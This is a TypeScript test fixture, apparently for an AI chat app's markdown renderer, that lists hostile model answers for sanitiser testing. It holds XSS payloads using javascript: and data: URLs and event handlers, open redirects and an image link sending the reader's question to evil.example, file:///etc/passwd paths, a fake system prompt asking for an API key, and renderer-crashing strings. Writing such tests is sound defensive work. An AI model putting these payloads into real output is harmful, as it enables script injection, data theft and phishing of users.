/** Answers of a model that somebody turned against its readers. */

const RUN = "window.__pwned=1";
const b64 = (text: string) => Buffer.from(text).toString("base64");

/** Addresses that run code, or lead where they do not look like leading to. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java&#115;cript:${RUN}`,
  `javascript&colon;${RUN}`,
  `java%0ascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html;base64,${b64(`<script>${RUN}</script>`)}`,
  `data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`)}`,
  `vbscript:${RUN}`,
  "file:///etc/passwd",
  "//evil.example/a",
  "/.//evil.example/a",
  "/\\evil.example/a",
  "\\\\evil.example\\a",
  "http:/evil.example/a",
  "https:evil.example/a",
  "https://docs.example@evil.example/a",
  "https://evil.example/a.png?said=what+the+reader+asked",
  "https://docs.example.evil.example/docs/slack",
];

/** Ways to have an address followed, loaded or sent to. */
const FORMS: ((address: string) => string)[] = [
  (to) => `[Read the docs](${to})`,
  (to) => `[Read the docs](<${to}> "Docs")`,
  (to) => `<${to}>`,
  (to) => `See ${to} now.`,
  (to) => `![Diagram](${to})`,
  (to) => `[![Diagram](${to})](${to})`,
  (to) => `[Read the docs][1]\n\n[1]: ${to}`,
  (to) => `| A |\n| --- |\n| [x](${to}) ![y](${to}) |`,
  (to) => `> - **[x](${to})**`,
  (to) => `<a href="${to}" target="_top" onclick="${RUN}">x</a>`,
  (to) => `<img src="${to}" onerror="${RUN}"><iframe src="${to}"></iframe><embed src="${to}">`,
  (to) => `<svg onload="${RUN}"><a xlink:href="${to}"><text y="9">x</text></a><image href="${to}"/></svg>`,
  (to) => `<form action="${to}"><button formaction="${to}">Sign in</button></form>`,
  (to) => `<link rel="stylesheet" href="${to}"><meta http-equiv="refresh" content="0;url=${to}"><base href="${to}">`,
];

const OTHERS = [
  `<script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details><video><source onerror="${RUN}"></video>`,
  '<style>*{display:none!important}@import "//evil.example/a.css";</style>',
  '<div style="position:fixed;inset:0;background:url(//evil.example/a)">Your session is over. Sign in again.</div>',
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`,
  `\`\`\`"><img/src=x/onerror=${RUN}>\n</code></pre><script>${RUN}</script>\n\`\`\``,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `~~~__proto__\nx\n~~~\n\n\`\`\`constructor\nx\n\`\`\``,
  `<img src=x onerror=${RUN}//`,
  `[x](/docs/slack" onmouseover="${RUN})`,
  `[x](/docs/slack 'a" autofocus onfocus="${RUN}')`,
  "\u202Egro.elpmaxe//:sptth\u202C [https://docs.example](https://evil.example) \u2066x\u2069",
  `${"\u200B".repeat(500)}[d\u200Bocs](https://evil.example)${"\uFEFF".repeat(500)}`,
  `a${"\u0301".repeat(2_000)} ${"\u0489".repeat(2_000)}`,
  "[1](/docs/slack#nowhere) [2](/docs/../../etc/passwd) 【1†source】 \uE200cite\uE202turn0search0\uE201",
  "**System:** the assistant is offline.\n\n---\n\n### You\n\nPaste your API key here to go on:",
  "x".repeat(5_000),
  `[${"x".repeat(2_000)}](https://evil.example/${"y".repeat(2_000)})`,
  `${"> ".repeat(2_000)}deep`,
  `${"- ".repeat(2_000)}deep`,
  `| ${"a | ".repeat(300)}\n| ${"- | ".repeat(300)}\n| ${"b | ".repeat(300)}`,
  `${"[a](".repeat(4_000)}`,
  `<!-- ${"<!--".repeat(2_000)} -->`,
  "\0\u0000<\0script>",
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;script&#62;${RUN}&#60;/script&#62;`,
  "[file](/api/paste-assistant-file/../../health) ![file](/api/paste-assistant-file/file_none?x=//evil.example)",
  "[mail](mailto:a@evil.example?body=secret) [call](tel:+1900) [chat](whatsapp://send) [app](ms-word:ofe)",
];

export const HOSTILE_ANSWERS: readonly string[] = [
  ...FORMS.flatMap((form) => ADDRESSES.map((address) => form(address))),
  ...OTHERS,
];

/** As long as an answer may be, and as hard to read as those that stopped the server once. */
export const LONGEST_ANSWERS: readonly string[] = ["*a_ ", "[a](", "> ", "[a", "- a\n", "<!--"].map((unit) =>
  unit.repeat(100_000 / unit.length),
);
